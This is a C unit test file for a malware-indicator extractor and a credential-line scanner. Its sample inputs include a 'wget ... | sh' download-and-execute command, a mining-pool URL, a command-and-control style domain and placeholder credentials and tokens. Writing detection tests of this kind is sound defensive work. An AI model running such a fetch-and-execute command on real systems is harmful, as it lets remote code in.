/* Addresses and names in text, and which lines are worth a search for credentials. */
#include "analyze/process/indicator.h"

#include <criterion/criterion.h>

#include "analyze/process/suspicion.h"
#include "formats/base/mask.h"

static void expect(const char *text, const char *kind, const char *value)
{
    struct indicator i;
    struct bytes b = bytes_str(text);
    if (!kind) {
        cr_assert_not(indicator_find(b, 0, &i), "%s", text);
        return;
    }
    cr_assert(indicator_find(b, 0, &i), "%s", text);
    cr_assert_str_eq(i.kind, kind, "%s", text);
    cr_assert(bytes_is(bytes_sub(b, i.at, i.length), value), "%s", text);
}

Test(indicator, kinds)
{
    expect("wget -q http://198.51.100.23/u.sh | sh", "url", "http://198.51.100.23/u.sh");
    expect("x=stratum+tcp://pool.example:3333;", "url",
           "stratum+tcp://pool.example:3333;");
    expect("to 198.51.100.23:4444", "ipv4", "198.51.100.23");
    expect("c2.evil-host.xyz,", "domain", "c2.evil-host.xyz");
    expect("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "bitcoin",
           "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq");
    expect("0x52908400098527886E0F7030069857D2E4169EE7", "ethereum",
           "0x52908400098527886E0F7030069857D2E4169EE7");
}

Test(indicator, what_is_none)
{
    expect("10.0.0.1 127.0.0.1 192.168.1.1 169.254.169.254 100.64.0.1", NULL, NULL);
    expect("1.2.3.4.5 999.1.1.1 1.02.3.4", NULL, NULL);
    expect("lib.so main.c a.b http:// x://y", NULL, NULL);
    expect("", NULL, NULL);
}

/* What mask.h finds in these texts, the lines chosen here must hold. */
Test(suspicion, lets_every_credential_through)
{
    static const char *const texts[] = {
        "a\nDB_PASSWORD=hunter2-lab\nb",
        "x\ny postgres://user:hunter2-lab@db:5432/x\n",
        "t AKIAIOSFODNN7EXAMPLE t",
        "name: API_TOKEN\nvalue: abcdefgh12345678\n",
        "Authorization: Basic dXNlcjpodW50ZXIyLWxhYg==",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJlc2lnbmF0dXJl",
        "ghp_0123456789abcdefghijABCDEFGHIJ012345"};
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        struct bytes text = bytes_str(texts[i]);
        struct credential c;
        size_t at = 0, start, end;
        bool found = false;
        cr_assert(credential_find(text, 0, &c), "%s", texts[i]);
        while (suspicion_next(text, &at, &start, &end))
            found |= c.offset >= start && c.offset + c.length <= end;
        cr_assert(found, "%s", texts[i]);
    }
}

Test(suspicion, skips_plain_text)
{
    size_t at = 0, start, end;
    cr_assert_not(suspicion_next(BYTES("GET /index.html HTTP/1.1\r\nHost: x\r\n"), &at,
                                 &start, &end));
}
